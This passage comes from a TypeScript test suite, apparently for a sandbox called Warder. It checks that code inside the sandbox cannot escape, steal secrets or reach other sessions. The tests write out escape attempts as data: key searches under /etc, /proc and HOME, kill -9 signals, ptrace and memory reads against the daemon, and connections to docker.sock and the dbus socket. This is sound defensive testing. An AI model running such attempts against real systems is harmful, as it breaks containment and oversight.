        expect(control).toMatchObject([{ reached: true }, { reached: true }]);
      } finally {
        rmSync(folder, { recursive: true, force: true });
      }
      const { env } = await inside.see();
      // These tests themselves speak of keys, and may lie there.
      const tmp = hostile.startsWith('/tmp/') ? [] : ['/tmp'];
      const said = await fail(
        'keys',
        [['/run', ...tmp, '/dev', '/etc', '/var', env.HOME, '/proc/self/fd', '/proc/1/fd']],
        ['py'],
      );
      expect(said[0]).toMatch(/^[1-9]\d+ files, and no key$/);
      expect(await inside.scan(token)).toBeGreaterThan(0);
      expect(await inside.scan(secret)).toBe(0);
    });

    test('W-BOX-6 W-BOX-7 W-EGR-6 into the daemon, the pause process of its network, or any process but its own', async () => {
      const daemon = (await home.daemon()) ?? 0;
      const tree = treeOf(daemon);
      expect(tree.length).toBeGreaterThan(4);
      const victim = spawn('/bin/sleep', ['60']);
      try {
        const tries = [[victim.pid]];
        const control = [
          ...(root ? [...(await outside('memory', tries)), ...(await outside('trace', tries))] : []),
          ...(await outside('signal', [[victim.pid, 9]])),
        ];
        expect(control.filter(({ reached }) => !reached)).toEqual([]);
      } finally {
        victim.kill('SIGKILL');
      }
      const pids = [daemon, ...tree.map(({ pid }) => pid), process.pid];
      await fail(
        'signal',
        pids.map((pid) => [pid, 9]),
      );
      await fail(
        'memory',
        pids.map((pid) => [pid]),
        ['py'],
      );
      await fail(
        'trace',
        [1, ...pids].map((pid) => [pid]),
        ['py'],
      );
      // What began the sandbox, and is in it, can be looked into: no secret is there.
      await tried('py', 'memory', [[1]]);
      expect(tree.filter((one) => !isAlive(one))).toEqual([]);
      expect(await inside.fetch(at(api), { headers: bearer() })).toMatchObject({ status: 200 });
    });

    test('W-BOX-8 W-EGR-6 a Unix socket: Warder’s own, or one with an abstract name', async () => {
      const abstract = `warder-hostile-${mark}`;
      const server = createServer((socket) => socket.on('error', () => {}));
      let connections = 0;
      server.on('connection', () => connections++);
      server.listen(`\0${abstract}`);
      await once(server, 'listening');
      try {
        const tries = [[`@${abstract}`], [home.places.socket]];
        expect((await outside('unix', tries)).map(({ reached }) => reached)).toEqual([true, true]);
        await fail('unix', [
          ...tries,
          ['@/tmp/.X11-unix/X0'],
          ['/run/dbus/system_bus_socket'],
          ['/var/run/docker.sock'],
        ]);
        expect(connections).toBe(1);
      } finally {
        server.close();
      }
    });

    test('W-EGR-6 the address of a listener of the gate, or of its name server', async () => {
      const look = "import socket; print(socket.gethostbyname('api.test'))";
      const address = (await inside.out(['/usr/bin/python3', '-c', look])).trim();
      await succeed(
        'listen',
        [
          ['tcp', '127.0.0.1', 0],
          ['udp', '127.0.0.1', 0],
        ],
        ['py'],
      );
      const tries = ['0.0.0.0', '127.0.0.1', address].flatMap((one) => [
        ...[53, 80, 443, api.port, open.port, open.plain, lure.port].map((port) => ['tcp', one, port]),
        ['udp', one, 53],
      ]);
      await fail('listen', tries, ['py']);
      expect(await inside.fetch(at(api), { headers: bearer() })).toMatchObject({ status: 200 });
    });

    test('W-EGR-9 W-BOX-7 what another session has: its host, its placeholder, its network, its processes', async () => {
      await using other = await Inside.open(home.run('other'), [secret, theirSecret]);
      const { env } = await other.see();
      const headers = { authorization: `Bearer ${env.TOKEN}` };
      expect(await other.fetch(at(theirs), { headers })).toMatchObject({ status: 200 });
      expect(theirs.requests.at(-1)?.headers.authorization).toBe(`Bearer ${theirSecret}`);
      await unnoticed(() =>
        fail('get', [[at(theirs)], [at(theirs), headers], [`https://${theirs.address}/echo`]], all),
      );
      await refused('theirs.test', 53);
      expect(await other.fetch(at(api))).toMatchObject({ failed: 'ENOTFOUND' });
      // Its placeholder means nothing here, and this one nothing there.
      await inside.fetch(at(api), { headers });
      expect(api.requests.at(-1)?.headers.authorization).toBe(headers.authorization);
      await other.fetch(at(theirs), { headers: { ...bearer() } });
      expect(theirs.requests.at(-1)?.headers.authorization).toBe(`Bearer ${token}`);
      // What listens there is not reachable from here, at any address.
      const port = 7777;
      const script = `import socket
listener = socket.create_server(("0.0.0.0", ${port}))
while True: listener.accept()[0].send(b"from the other")`;
      other.client.ask('tools/call', {
        name: 'run',
        arguments: { command: ['/usr/bin/python3', '-c', script], seconds: 20 },
      });
      await expect
        .poll(async () => (await tried('py', 'connect', [['127.0.0.1', port]], other))[0])
        .toMatchObject({ reached: true, said: 'from the other' });
      await fail(
        'connect',
        ['127.0.0.1', '127.1.0.1', '127.0.0.2', '0.0.0.0'].map((one) => [one, port]),
      );
      // A server that ends all that it may ends itself, and nothing of this one.
      const [session] = (await home.facts('status')).sessions;
      const network = namespaceOf(childrenOf(session.server.pid)[0] ?? 0, 'net');
      const daemon = (await home.daemon()) ?? 0;
      const own = treeOf(daemon).filter(({ pid }) => pid === daemon || namespaceOf(pid, 'net') === network);
      // The daemon, the pause process of the network, and the sandbox itself.
      expect(own.length).toBeGreaterThan(3);
      const command = [...LANGUAGES.py, 'all_of_them'];
      other.client.ask('tools/call', { name: 'run', arguments: { command, input: '[]\n' } });
      await other.client.ended;
      expect(own.filter((one) => !isAlive(one))).toEqual([]);
      expect(await inside.fetch(at(api), { headers: bearer() })).toMatchObject({ status: 200 });
    });
  });

  test('W-EGR-2 W-SEAL-7 all attempts are recorded, no secret is, and the log is intact', async () => {
    // Hosts got the secret only where it is meant for them.
    expect(api.text).toContain(secret);
    for (const host of [open, elsewhere, theirs]) expectAbsent(host.text, secret, host.names[0] ?? '');
    for (const host of [api, open, elsewhere, lure])
      expectAbsent(host.text, theirSecret, host.names[0] ?? '');
    // It was tried from outside whether it is there.
    expect(elsewhere.requests.map(({ target }) => target)).toEqual(['/']);
    const lured = lure.requests.filter(
      ({ secure, servername }) => secure && servername !== 'sealed-rebinding.test',
    );
    for (const { raw } of lured) expectAbsent(raw.toString('latin1'), secret, 'what a lure got');
    // The resolver received only listed names, once they were connected to, and the gate's own question for NAT64.
    const names = [
      'ipv4only.arpa',
      ...Object.keys(LURES),
      'api.test',
      'open.test',
      'theirs.test',
      'sealed.test',
      'rebinding.test',
      'sealed-rebinding.test',
    ];
    const asked = internet.resolver.queries.map((question) => question.split(' ')[1] ?? '');
    expect(asked.filter((name) => !names.includes(name))).toEqual([]);

    const connections = home.audit('egress.connect');
    const reached = connections.filter(({ outcome }) => outcome === 'open');
    const ways = new Set(reached.map(({ profile, host, address }) => `${profile} ${host} ${address}`));
    expect([...ways].sort()).toEqual(
      [
        `hostile api.test ${api.address}`,
        `hostile open.test ${open.address}`,
        ...['loopback.test', 'rebinding.test', 'sealed-rebinding.test'].map(
          (name) => `hostile ${name} ${opened}`,
        ),
        `other theirs.test ${theirs.address}`,
      ].sort(),
    );
    expect(connections.filter(({ outcome }) => outcome === 'refused').length).toBeGreaterThan(40);
    for (const one of [secret, theirSecret]) expectAbsent(JSON.stringify(home.audit()), one, 'the log');
    expect(await home.done(['audit', 'verify'])).toMatch(/^\d+ records verify/);
  });
});

/** As `tried` in Python, but on this machine itself. */
async function outside(attempt: string, tries: readonly Try[]): Promise<Outcome[]> {
  const [file, script] = LANGUAGES.py;
  const child = spawn(file, [script, attempt], { stdio: ['pipe', 'pipe', 'inherit'] });
  child.stdin.end(tries.map((one) => `${JSON.stringify(one)}\n`).join(''));
  return read(await text(child.stdout), tries);
}

function read(said: string, tries: readonly Try[]): Outcome[] {
  const outcomes = said
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line));
  expect(outcomes).toHaveLength(tries.length);
  return outcomes;
}

/** Arguments as the shell's attempts read them. */
function inShell(one: Try): string {
  const word = (part: unknown): string => {
    if (part === null) return '-';
    if (typeof part === 'object')
      return Object.entries(part)
        .map((field) => field.join(': '))
        .join('');
    return String(part).replaceAll('\\', '\\\\').replaceAll('\r', '\\r').replaceAll('\n', '\\n');
  };
  return one.map(word).join('\t');
}

/** An address of this machine that is not its loopback's; undefined where it has none. */
function ownAddress(family: 4 | 6 = 4): string | undefined {
  return Object.values(networkInterfaces())
    .flatMap((some = []) => some)
    .find((one) => !one.internal && one.family === `IPv${family}` && !one.address.startsWith('fe80'))
    ?.address;
}
